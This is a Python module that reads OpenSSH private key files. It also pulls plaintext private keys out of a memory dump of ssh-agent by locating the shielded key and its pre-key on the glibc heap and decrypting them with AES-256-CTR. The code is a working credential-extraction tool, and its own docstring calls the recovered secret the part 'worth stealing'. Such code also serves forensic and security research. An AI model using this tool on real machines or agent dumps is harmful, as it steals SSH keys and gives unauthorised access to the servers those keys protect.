# SPDX-License-Identifier: GPL-3.0-or-later
"""Private keys as OpenSSH keeps them: in files (PROTOCOL.key) and, shielded, in
the memory of ssh-agent.

The agent encrypts each idle key with a key made from 16 KiB of random octets,
the pre-key, which lie in the same heap. Against a leak of some octets that is a
good defence; who has the whole heap has both.

    struct sshkey  { ... u_char *shielded_private; size_t shielded_len;
                     u_char *shield_prekey; size_t shield_prekey_len; ... }

(OpenSSH's sshkey.h and sshkey_shield_private, since 8.1.)
"""

import base64
import ctypes
import hashlib
import re
import struct

PREKEY = 16 * 1024
# In front of what malloc() returned for PREKEY octets: the chunk's size and
# the bit "the one before is in use" (glibc).
PREKEY_CHUNK = struct.pack("<Q", PREKEY + 16 | 1)
HEAP = 1 << 47


class _Octets:
    """SSH's string and mpint (RFC 4251 section 5)."""

    def __init__(self, octets):
        self.octets, self.at = octets, 0

    def number(self):
        return struct.unpack(">I", self.take(4))[0]

    def take(self, n):
        if self.at + n > len(self.octets):
            raise ValueError("too short")
        self.at += n
        return self.octets[self.at - n:self.at]

    def string(self):
        return self.take(self.number())


def _secret(kind, r):
    """The part of a private key that is worth stealing; r is behind the name."""
    if kind == b"ssh-ed25519":
        r.string()
        return r.string()[:32]         # the seed; the public key follows it
    if kind == b"ssh-rsa":
        for _ in range(4):             # n, e, d, iqmp
            r.string()
        return r.string().lstrip(b"\0")  # p
    raise ValueError(f"a key of kind {kind!r}")


def secret_of_file(text):
    """Of an unencrypted private key file."""
    r = _Octets(base64.b64decode("".join(text.strip().splitlines()[1:-1])))
    if r.take(15) != b"openssh-key-v1\0":
        raise ValueError("not a private key of OpenSSH")
    for _ in range(3):                 # cipher, kdf, its options
        r.string()
    r.number()
    r.string()                         # public key
    inner = _Octets(r.string())
    inner.number(), inner.number()     # check octets
    return _secret(inner.string(), inner)


def _aes256_ctr(key, iv, octets):
    lib = ctypes.CDLL("libcrypto.so.3")
    lib.EVP_aes_256_ctr.restype = lib.EVP_CIPHER_CTX_new.restype = ctypes.c_void_p
    ctx = ctypes.c_void_p(lib.EVP_CIPHER_CTX_new())
    out, n = ctypes.create_string_buffer(len(octets) + 16), ctypes.c_int()
    good = lib.EVP_DecryptInit_ex(ctx, ctypes.c_void_p(lib.EVP_aes_256_ctr()), None, key, iv) == 1
    good = good and lib.EVP_DecryptUpdate(ctx, out, ctypes.byref(n), octets, len(octets)) == 1
    lib.EVP_CIPHER_CTX_free(ctx)
    if not good:
        raise ValueError("AES-256-CTR")
    return out.raw[:n.value]


def _positions(octets, wanted):
    at = octets.find(wanted)
    while at >= 0:
        yield at
        at = octets.find(wanted, at + 1)


def unshield(octets):
    """Plain private keys out of a dump of an agent (any dump in which a heap
    lies in one piece; addresses are not needed). Yields octets."""
    prekeys = [at + 8 for at in _positions(octets, PREKEY_CHUNK)]
    for at in _positions(octets, struct.pack("<Q", PREKEY)):
        if at < 24:
            continue
        shielded, length, prekey = struct.unpack("<QQQ", octets[at - 24:at])
        if not (0 < shielded < HEAP and 0 < prekey < HEAP and 0 < length < PREKEY
                and shielded % 16 == prekey % 16 == 0):
            continue
        for where in prekeys:
            plain = _try(octets, where, where + shielded - prekey, length)
            if plain:
                yield plain


def _try(octets, prekey, shielded, length):
    if shielded < 0 or shielded + length > len(octets):
        return None
    made = hashlib.sha512(bytes(octets[prekey:prekey + PREKEY])).digest()
    plain = _aes256_ctr(made[:32], made[32:48], bytes(octets[shielded:shielded + length]))
    r = _Octets(plain)
    try:
        name = r.string()
        return _secret(name, r) if re.fullmatch(rb"ssh-[a-z0-9]+", name) else None
    except ValueError:
        return None
